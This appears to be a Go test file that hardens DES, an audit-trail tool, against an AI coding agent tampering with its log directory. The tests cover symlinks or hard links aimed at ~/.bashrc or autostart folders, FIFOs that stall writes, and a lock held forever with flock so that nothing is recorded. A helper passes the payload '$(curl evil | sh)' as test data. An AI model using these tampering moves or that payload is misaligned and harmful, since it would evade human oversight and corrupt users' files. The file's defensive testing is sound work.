//go:build unix

package audit

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/deterministic-exec/des/internal/filelock"
)

// An agent that can write the audit directory (Claude Code's sandbox lets
// Bash append to it, for git commit) puts a link or a FIFO where DES
// writes next. DES, which runs outside the sandbox, must neither write
// where the link points nor wait on the FIFO.

var linkDay = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)

// victim is a file outside the project, as ~/.bashrc would be.
func victim(t *testing.T) (path, content string) {
	t.Helper()
	path = filepath.Join(t.TempDir(), "bashrc")
	content = "export PATH=$HOME/bin:$PATH\n" + strings.Repeat("# the user's own lines\n", 40)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path, content
}

func wantUnchanged(t *testing.T, path, content string) {
	t.Helper()
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if string(got) != content {
		t.Errorf("DES wrote to %s through a link:\n%q", path, got)
	}
}

// projectTrail is a trail in a project's .des/audit, opened from the
// project root as des opens it, with one line appended.
func projectTrail(t *testing.T, opts ...Option) (root, dir string, l *Log) {
	t.Helper()
	root = t.TempDir()
	dir = filepath.Join(root, ".des", "audit")
	l = mustOpen(t, dir, append([]Option{WithRoot(root), fixedClock(linkDay)}, opts...)...)
	if err := appendWithin(t, l); err != nil {
		t.Fatal(err)
	}
	return root, dir, l
}

// appendWithin appends one entry with a deadline: a FIFO must not hold it.
func appendWithin(t *testing.T, l *Log) error {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- l.Append(ctx, hookError(map[string]any{"error": "$(curl evil | sh)"})) }()
	select {
	case err := <-done:
		return err
	case <-time.After(10 * time.Second):
		t.Fatal("Append waited on a FIFO")
		return nil
	}
}

func TestAppendWritesThroughNoLink(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		at   string // the name in the log directory the agent replaces
		ok   bool   // whether the append still succeeds (the head record is only a cache)
	}{
		{"head record", HeadFile, true},
		{"day file", FileName(linkDay), false},
		{"lock", lockName, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, dir, l := projectTrail(t)
			path, content := victim(t)
			os.Remove(filepath.Join(dir, tc.at))
			if err := os.Symlink(path, filepath.Join(dir, tc.at)); err != nil {
				t.Fatal(err)
			}
			err := appendWithin(t, l)
			wantUnchanged(t, path, content)
			if tc.ok && err != nil {
				t.Fatalf("append with a link at %s: %v", tc.at, err)
			}
			if !tc.ok && (err == nil || !strings.Contains(err.Error(), "remove it")) {
				t.Fatalf("append with a link at %s: %v, want an error that says to remove it", tc.at, err)
			}
			if tc.ok {
				if fi, err := os.Lstat(filepath.Join(dir, tc.at)); err != nil || !fi.Mode().IsRegular() {
					t.Errorf("%s after the append: %v %v, want DES's own file again", tc.at, fi, err)
				}
				if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() || rep.LastSeq != 2 {
					t.Errorf("trail after the append: %+v %v", rep, err)
				}
			}
		})
	}
}

// A link from the head record to a day file stays inside the directory,
// but rewriting the record through it would cut the day file.
func TestAppendHeadLinkedToDayFile(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	dir := filepath.Join(root, ".des", "audit")
	l := mustOpen(t, dir, WithRoot(root), fixedClock(linkDay))
	for range 3 {
		if err := appendWithin(t, l); err != nil {
			t.Fatal(err)
		}
	}
	os.Remove(filepath.Join(dir, HeadFile))
	if err := os.Symlink(FileName(linkDay), filepath.Join(dir, HeadFile)); err != nil {
		t.Fatal(err)
	}
	if err := appendWithin(t, l); err != nil {
		t.Fatal(err)
	}
	if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() || rep.LastSeq != 4 {
		t.Errorf("trail after the append: %+v %v", rep, err)
	}
}

func TestAppendRefusesLinkedDirectory(t *testing.T) {
	t.Parallel()
	for _, at := range []string{".des", ".des/audit"} {
		t.Run(at, func(t *testing.T) {
			root := t.TempDir()
			elsewhere := t.TempDir() // the agent's choice: ~/.config/autostart, say
			if err := os.MkdirAll(filepath.Join(root, filepath.Dir(at)), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(elsewhere, filepath.Join(root, at)); err != nil {
				t.Fatal(err)
			}
			l := mustOpen(t, filepath.Join(root, ".des", "audit"), WithRoot(root), fixedClock(linkDay))
			err := appendWithin(t, l)
			if err == nil || !strings.Contains(err.Error(), "remove it") {
				t.Errorf("append through a link at %s: %v, want an error that says to remove it", at, err)
			}
			var found []string
			filepath.Walk(elsewhere, func(p string, fi os.FileInfo, err error) error {
				if p != elsewhere {
					found = append(found, p)
				}
				return nil
			})
			if len(found) > 0 {
				t.Errorf("DES created %v through the link at %s", found, at)
			}
		})
	}
}

func TestAppendWaitsOnNoFIFO(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		at string
		ok bool
	}{{HeadFile, true}, {FileName(linkDay), false}} {
		t.Run(tc.at, func(t *testing.T) {
			_, dir, l := projectTrail(t)
			os.Remove(filepath.Join(dir, tc.at))
			if err := syscall.Mkfifo(filepath.Join(dir, tc.at), 0o644); err != nil {
				t.Fatal(err)
			}
			err := appendWithin(t, l)
			if tc.ok != (err == nil) {
				t.Errorf("append with a FIFO at %s: %v", tc.at, err)
			}
			if err != nil && !strings.Contains(err.Error(), "named pipe") {
				t.Errorf("append with a FIFO at %s: %v, want an error naming it", tc.at, err)
			}
		})
	}
}

// Retention writes too: an archive name linked to the user's file, or the
// archive directory linked out of the trail, must not be written through.
func TestArchiveWritesThroughNoLink(t *testing.T) {
	t.Parallel()
	for _, at := range []string{"archive file", "archive directory"} {
		t.Run(at, func(t *testing.T) {
			dir := dailyTrail(t, 2) // 03-01, 03-02
			path, content := victim(t)
			link, target := filepath.Join(dir, ArchiveDir, "audit-2026-03-01.log.gz"), path
			if at == "archive directory" {
				link, target = filepath.Join(dir, ArchiveDir), filepath.Dir(path)
			} else if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(target, link); err != nil {
				t.Fatal(err)
			}
			now := retDay.AddDate(0, 0, 30)
			l := mustOpen(t, dir, WithRetention(3), fixedClock(now))
			if _, err := l.Archive(context.Background(), now); err == nil {
				t.Error("Archive through a link succeeded")
			}
			wantUnchanged(t, path, content)
			if entries, _ := os.ReadDir(filepath.Dir(path)); len(entries) != 1 {
				t.Errorf("files beside the user's: %v", entries)
			}
			if _, err := os.Stat(filepath.Join(dir, "audit-2026-03-01.log")); err != nil {
				t.Errorf("the day file was not kept: %v", err)
			}
		})
	}
}

// A hard link passes the link and regular-file checks: an append to a day
// file that is also the user's ~/.bashrc would write to both.
func TestAppendWritesToNoHardLink(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		at string
		ok bool
	}{{HeadFile, true}, {FileName(linkDay), false}} {
		t.Run(tc.at, func(t *testing.T) {
			root, dir, l := projectTrail(t)
			// The victim on the same file system, as a hard link needs.
			path := filepath.Join(root, "bashrc")
			content, _ := os.ReadFile(filepath.Join(dir, tc.at))
			os.Remove(filepath.Join(dir, tc.at))
			if err := os.WriteFile(path, content, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Link(path, filepath.Join(dir, tc.at)); err != nil {
				t.Skip("no hard links here:", err)
			}
			err := appendWithin(t, l)
			wantUnchanged(t, path, string(content))
			if tc.ok != (err == nil) {
				t.Errorf("append with a hard link at %s: %v", tc.at, err)
			}
			if err != nil && !strings.Contains(err.Error(), "hard link") {
				t.Errorf("append with a hard link at %s: %v, want an error naming it", tc.at, err)
			}
		})
	}
}

// The witness directory is outside the project, but a sandbox that lets a
// git commit move the witness on lets the agent write there too: a link at
// the witness's temporary name, or a FIFO at the witness, must neither have
// DES write where the link points nor hold it.
func TestWitnessWritesThroughNoLink(t *testing.T) {
	t.Parallel()
	for _, at := range []string{"temporary file", "witness"} {
		t.Run(at, func(t *testing.T) {
			wdir := t.TempDir()
			_, dir, l := projectTrail(t, WithWitness(wdir))
			path, content := victim(t)
			link := WitnessPath(wdir, dir) + ".tmp"
			if at == "witness" {
				link = WitnessPath(wdir, dir)
			}
			os.Remove(link)
			if err := os.Symlink(path, link); err != nil {
				t.Fatal(err)
			}
			if err := appendWithin(t, l); err != nil {
				t.Errorf("append with a link at the %s: %v", at, err)
			}
			wantUnchanged(t, path, content)
		})
	}
	// A hard link passes O_NOFOLLOW: the witness rewritten in place would
	// write the user's file too.
	t.Run("hard link", func(t *testing.T) {
		wdir := t.TempDir()
		_, dir, l := projectTrail(t, WithWitness(wdir))
		w := WitnessPath(wdir, dir)
		data, _ := os.ReadFile(w)
		path := filepath.Join(wdir, "bashrc") // beside it: a hard link needs one file system
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		os.Remove(w)
		if err := os.Link(path, w); err != nil {
			t.Skip("no hard links here:", err)
		}
		if err := appendWithin(t, l); err != nil {
			t.Errorf("append with a hard link at the witness: %v", err)
		}
		wantUnchanged(t, path, string(data))
	})
	t.Run("FIFO", func(t *testing.T) {
		wdir := t.TempDir()
		_, dir, l := projectTrail(t, WithWitness(wdir))
		w := WitnessPath(wdir, dir)
		os.Remove(w)
		if err := syscall.Mkfifo(w, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { // release a reader left blocked on it
			if f, err := os.OpenFile(w, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				f.Close()
			}
		})
		if err := appendWithin(t, l); err != nil {
			t.Errorf("append with a FIFO at the witness: %v", err)
		}
		rep, err := Verify(context.Background(), dir, WithWitness(wdir))
		if err != nil || rep.Break == nil || rep.Break.Kind != BreakWitness || !strings.Contains(rep.Break.Msg, "not a regular file") {
			t.Errorf("verify with a FIFO at the witness: %+v %v, want a witness break naming it", rep.Break, err)
		}
	})
}

// The agent links another name to DES's own day file (`ln
// .des/audit/audit-….log x`): the append refuses it, and the way out it
// names must keep the trail, not have the person remove the day file.
func TestAppendRefusesADayFileLinkedFromElsewhere(t *testing.T) {
	t.Parallel()
	root, dir, l := projectTrail(t)
	other := filepath.Join(root, "x")
	if err := os.Link(filepath.Join(dir, FileName(linkDay)), other); err != nil {
		t.Skip("no hard links here:", err)
	}
	err := appendWithin(t, l)
	if err == nil || !strings.Contains(err.Error(), "remove the other name") || !strings.Contains(err.Error(), "-samefile") {
		t.Fatalf("append to a day file with another name: %v, want the way to find and remove the other name", err)
	}
	if err := os.Remove(other); err != nil {
		t.Fatal(err)
	}
	if err := appendWithin(t, l); err != nil {
		t.Fatal(err)
	}
	if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() || rep.LastSeq != 2 {
		t.Errorf("trail after the way out: %+v %v", rep, err)
	}
}

// A background process of the agent's holds the trail's lock for good
// (`flock .des/audit/.lock sleep infinity`): Verify, which a person runs,
// says so instead of waiting for ever.
func TestVerifyDoesNotWaitForeverOnAHeldLock(t *testing.T) {
	t.Parallel()
	_, dir, _ := projectTrail(t)
	lk, err := filelock.Acquire(context.Background(), filepath.Join(dir, lockName))
	if err != nil {
		t.Fatal(err)
	}
	defer lk.Unlock()
	defer func(w time.Duration) { verifyLockWait = w }(verifyLockWait)
	verifyLockWait = 200 * time.Millisecond
	done := make(chan error, 1)
	go func() { _, err := Verify(context.Background(), dir); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "held by another process") {
			t.Errorf("verify with the lock held: %v, want an error that says so", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Verify waited on a lock held for good")
	}
}

// What has every append refused (a link or a directory at the lock, a
// second name to the day file) leaves the lines written so far intact:
// Verify, which a person runs, must say that DES records nothing now, and
// find the trail intact once it is removed.
func TestVerifyReportsWhatRefusesAppends(t *testing.T) {
	t.Parallel()
	for _, at := range []string{"lock link", "lock directory", "day file hard link"} {
		t.Run(at, func(t *testing.T) {
			root, dir, l := projectTrail(t)
			path, _ := victim(t)
			var made string
			var err error
			switch at {
			case "lock link":
				made = filepath.Join(dir, lockName)
				os.Remove(made)
				err = os.Symlink(path, made)
			case "lock directory":
				made = filepath.Join(dir, lockName)
				os.Remove(made)
				err = os.Mkdir(made, 0o755)
			case "day file hard link":
				made = filepath.Join(root, "x")
				err = os.Link(filepath.Join(dir, FileName(linkDay)), made)
			}
			if err != nil {
				t.Skip(err)
			}
			if err := appendWithin(t, l); err == nil {
				t.Fatal("append succeeded")
			}
			if _, err := Verify(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "DES records nothing") {
				t.Errorf("verify with a %s: %v, want an error that DES records nothing", at, err)
			}
			if err := os.Remove(made); err != nil {
				t.Fatal(err)
			}
			if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() {
				t.Errorf("verify once it is removed: %+v %v", rep, err)
			}
		})
	}
}
